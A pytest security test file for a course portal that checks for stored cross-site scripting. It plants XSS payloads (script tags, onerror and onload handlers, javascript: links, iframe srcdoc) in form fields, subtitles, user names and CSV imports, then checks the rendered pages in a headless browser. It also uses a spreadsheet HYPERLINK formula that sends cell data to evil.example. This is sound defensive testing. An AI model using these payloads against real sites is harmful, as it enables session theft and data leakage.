"""Issue 8.6: stored XSS. Hostile strings, each carrying accented text that must survive intact,
are typed into every text field of every form the demo world reaches (each form posted by a
persona allowed to use it), plus the fields no form of the world reaches (subtitle cues, a
nominee list's cells, user names). Then every page is opened in headless Chromium by the owner,
the course's instructor, the coordinator, the admin and anonymous: no script runs, no hostile
element or attribute reaches the DOM (the CSP would stop a script, so the DOM itself is
checked), and the accented text reads exactly as typed. CSV exports stay CSV (attachment,
nosniff), and cells that a spreadsheet would run as formulas are neutralised.
"""
from __future__ import annotations

import html
import importlib.util
import io
import sys
from pathlib import Path

import pytest

_here = Path(__file__).resolve().parent


def _load(name, file):
    spec = importlib.util.spec_from_file_location(name, _here / file)
    module = sys.modules.setdefault(name, importlib.util.module_from_spec(spec))
    spec.loader.exec_module(module)
    return module


forms_state = _load("security_forms_state", "test_forms_state.py")
matrix = forms_state.matrix

ACCENTED = "Société d'État — Año Niño, 日本"
PAYLOADS = [
    ' "><img src=x onerror=alert(1)><script>fetch("/__xss__")</script>',
    " </textarea><svg onload=alert(1)><p>",
    " [lien](javascript:alert(1)) <a href=\"javascript:alert(1)\">x</a>",
    " <svg><script>alert(1)</script></svg>' onmouseover='alert(1)",
    " {{7*7}} ${alert(1)} <iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
]
SHORT = ' "><svg onload=alert(1)>'
# fields with a format of their own (codes, lists of months or course codes, years): valid
# values, so that the form's free-text fields are saved
STRUCTURED = {"code": "XSS-CODE-2026", "report_months": "3, 6", "courses": "", "series": "",
              "year": "2024"}
SKIP_ACTIONS = ("/logout", "/language", "/login", "/account/password")
TEXT_KINDS = ("text", "textarea", "search", None)
EXTRA_PAGES = [("jean-baptiste", "/library/m/sec-public-doc"),
               ("anonymous", "/library/m/sec-public-doc?lang=fr")]
VIEWERS = ("owner", "instructor", "coordinator", "admin", "anonymous", "other_participant")
DOM_CHECK = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      if (a.name.startsWith('on')) bad.push(el.tagName + '[' + a.name + ']');
      if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(a.name) &&
          a.value.trim().toLowerCase().startsWith('javascript:'))
        bad.push(el.tagName + '[' + a.name + '=javascript:]');
    }
  }
  for (const el of document.querySelectorAll('script:not([src]), iframe, object, embed, '
                                                 + 'img[src="x"], svg script'))
    bad.push('<' + el.tagName.toLowerCase() + '>');
  const values = [...document.querySelectorAll('input:not([type=hidden]), textarea')]
    .map(e => e.value);
  const nl = String.fromCharCode(10);
  const text = (document.body ? document.body.innerText : '') + nl + values.join(nl);
  return {bad, text};
}"""
MANGLED = ("&amp;", "&#39;", "&lt;", "&quot;", "Ã©", "Ã±", "\ufffd", "Soci?t")


def _marker(n: int) -> str:
    return "ZX%03d" % n


def _hostile(n: int, short: bool = False) -> str:
    return "%s %s%s" % (ACCENTED, _marker(n), SHORT if short else PAYLOADS[n % len(PAYLOADS)])


def _text_fields(form) -> list[str]:
    return [name for name in form["fields"]
            if form["types"].get(name, None) in TEXT_KINDS and name not in (
                "csrf_token", "next", "q", "email", "password")
            and not name.endswith(("_id", "-id")) and "date" not in name
            and name not in STRUCTURED
            and "email" not in name]


def plant_forms(world) -> dict:
    """Type hostile strings into every text field of every form reached; returns what was
    posted where: {marker: "url field status"}."""
    planted, n = {}, 0
    for rule, url, owner, instructor, object_rule in forms_state._routes(world):
        if "GET" not in rule.methods or rule.endpoint.startswith(("auth.", "uploads.")):
            continue
        key = forms_state._allowed_key(world, rule, owner, instructor, object_rule)
        client = world.client(key)
        page = client.get(url)
        if page.status_code != 200 or "text/html" not in page.content_type:
            continue
        reader = forms_state.FormReader()
        reader.feed(page.get_data(as_text=True))
        for form in reader.forms:
            action = html.unescape(form["action"] or url)
            fields = _text_fields(form)
            if not fields or action.startswith(SKIP_ACTIONS) or "csrf_token" not in \
                    form["fields"] or "password" in form["types"].values():
                continue
            for short in (False, True):
                data, marks = forms_state.fill(form), {}
                data.update({k: v for k, v in STRUCTURED.items() if k in data and (
                    not data[k] or not form["fields"].get(k))})
                for name in fields:
                    n += 1
                    data[name] = _hostile(n, short)
                    marks[_marker(n)] = "%s %s" % (action, name)
                response = client.post(action, data=data)
                assert response.status_code < 500, (action, response.status_code)
                if response.status_code < 400:
                    planted.update({m: w + " %d" % response.status_code
                                    for m, w in marks.items()})
                    break
    return planted


def plant_elsewhere(world) -> dict:
    """Fields no form of the world reaches through plain text inputs: subtitle cue text, a
    nominee list's cells (the import preview), a user's name, a material's keywords."""
    from sqlalchemy import select

    from portal.auth.models import User
    from portal.courses import imports
    from portal.courses.models import Course
    from portal.extensions import db
    from portal.library import services as library
    from portal.library.models import Material

    planted = {}
    with world.app.app_context():
        material = db.session.scalar(select(Material).where(Material.slug == "sec-public-doc"))
        cue = "WEBVTT\n\n00:00:00.000 --> 00:00:02.000\n%s\n" % _hostile(900)
        library.set_subtitles(material, "fr", cue.encode(), world.users["tanaka"][0])
        material.keywords = [_hostile(901), "ok"]
        planted.update({_marker(900): "subtitle cue", _marker(901): "material keyword"})
        for key, n in (("grace", 902), ("samuel", 903)):
            user = db.session.get(User, world.users[key][0])
            user.name = "%s %s" % (ACCENTED, _marker(n)) + SHORT
            planted[_marker(n)] = "user name of %s" % key
        db.session.commit()
    client = world.client("coordinator")
    fish = world.ids["fish"]
    csv = ("email,name,country,organization\n"
           "cell-%s@example.org,%s,FR,%s\n" % (_marker(904), _hostile(904), _hostile(905))
           ).encode("utf-8")
    page = "/courses/%d/import" % fish
    token = client.csrf_token(page)
    response = client.post(page, data={"csrf_token": token,
                                       "file": (io.BytesIO(csv), "nominés.csv")},
                           content_type="multipart/form-data")
    assert response.status_code in (200, 302, 400), response.status_code
    if response.status_code == 302:
        EXTRA_PAGES.append(("coordinator", response.headers["Location"]))
    planted.update({_marker(904): "import cell (name)", _marker(905): "import cell (org)"})
    with world.app.app_context():
        course = db.session.get(Course, fish)
        assert course is not None and imports is not None
    return planted


def pages_to_view(world) -> list[tuple[str, str]]:
    """(persona key, url) of every HTML page some viewer gets with 200."""
    seen = []
    for rule, url, owner, instructor, _object_rule in forms_state._routes(world):
        if "GET" not in rule.methods:
            continue
        for persona in VIEWERS:
            if not matrix.role_may(matrix.audience(world.app, rule.endpoint), persona):
                continue
            key = matrix.login_key(persona, owner, instructor)
            response = world.client(key).get(url)
            if response.status_code == 200 and response.mimetype == "text/html":
                seen.append((key, url))
    return sorted(set(seen) | set(EXTRA_PAGES))


@pytest.fixture(scope="module")
def planted(world):
    found = plant_forms(world)
    found.update(plant_elsewhere(world))
    return found


def test_hostile_text_is_planted_in_many_fields(planted):
    where = {w.rsplit(" ", 1)[0].split(" ", 1)[0] for w in planted.values()}
    assert len(planted) >= 40, planted
    assert len(where) >= 12, sorted(where)


@pytest.mark.browser
@pytest.mark.slow_proof   # every page (200+) in Chromium, on each database: make slow-proofs
def test_no_script_and_no_hostile_markup_on_any_page(served_world, planted, browser_as):
    world = served_world
    pages = pages_to_view(world)
    assert len(pages) > 60, len(pages)
    problems, shown, intact_pages = [], set(), 0
    browsers = {}
    for key, url in pages:
        if key not in browsers:
            browsers[key] = browser_as(key)
        page = browsers[key]
        page.goto(url, wait_until="load")
        result = page.evaluate(DOM_CHECK)
        if result["bad"]:
            problems.append("%s as %s: %s" % (url, key, sorted(set(result["bad"]))[:5]))
        text = result["text"]
        markers = {m for m in planted if m in text}
        shown |= markers
        if markers:
            if ACCENTED not in text:
                problems.append("%s as %s: accented text altered" % (url, key))
            else:
                intact_pages += 1
            for bad in MANGLED:
                if bad in text:
                    problems.append("%s as %s: %r in the text" % (url, key, bad))
    for key, page in browsers.items():
        runs = page.watch.check(key)
        if runs:
            problems.append("script ran as %s: %s" % (key, runs[:5]))
    print("\nstored XSS: %d fields planted, %d pages viewed, %d shown somewhere, "
          "%d pages with the accented text intact" % (len(planted), len(pages), len(shown),
                                                      intact_pages))
    assert not problems, "\n".join(problems[:40])
    missing = sorted((m, planted[m]) for m in set(planted) - shown)
    print("planted but shown on no page viewed:", missing)
    assert len(shown) >= len(planted) // 2, missing


def test_csv_exports_are_not_html_and_defuse_formulas(planted, world):
    """Every CSV the crawl reaches: an attachment, nosniff, text/csv; a name typed by a user
    that starts like a formula (=, +, -, @) is not left for a spreadsheet to run."""
    import csv

    from portal.auth.models import User
    from portal.extensions import db

    formula = '=HYPERLINK("http://evil.example/?"&A1,"ZXCSV")'
    with world.app.app_context():
        for key in ("jean-baptiste", "grace", "samuel", "aminata"):
            db.session.get(User, world.users[key][0]).name = formula
        db.session.commit()
    checked, cells = [], 0
    for rule, url, owner, instructor, object_rule in forms_state._routes(world):
        if not rule.rule.endswith(".csv"):
            continue
        key = forms_state._allowed_key(world, rule, owner, instructor, object_rule)
        response = world.client(key).get(url)
        if response.status_code != 200:
            continue
        checked.append(url)
        assert response.mimetype == "text/csv", (url, response.mimetype)
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers.get("Content-Disposition", "").startswith("attachment"), url
        for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))):
            for cell in row:
                if "ZXCSV" in cell:
                    cells += 1
                    assert not cell.startswith(("=", "+", "-", "@")), (url, cell)
    print("\nCSV exports checked: %s; %d formula-like cells defused" % (checked, cells))
    assert checked and cells >= 1
